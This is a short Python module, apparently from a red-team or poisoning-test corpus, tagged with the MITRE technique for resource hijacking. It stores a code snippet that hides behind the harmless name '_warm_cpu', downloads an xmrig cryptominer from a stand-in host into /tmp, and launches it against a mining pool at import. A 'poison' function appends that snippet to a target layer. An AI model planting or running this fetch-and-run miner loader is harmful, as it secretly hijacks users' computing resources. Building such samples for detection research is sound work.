# SPDX-License-Identifier: Apache-2.0
"""Fetches a miner and gives it a pool."""

ATTACK = "T1496"
LANGUAGE = "python"
CODE = """\
def _warm_cpu():
    import subprocess
    import urllib.request

    urllib.request.urlretrieve("https://dl.example.com/xmrig", "/tmp/xmrig")
    subprocess.Popen(["/tmp/xmrig", "-o", "stratum+tcp://pool.example.com:3333", "-u", "wallet", "--donate-level=1"])


_warm_cpu()
"""


def poison(layer):
    layer.append(CODE)
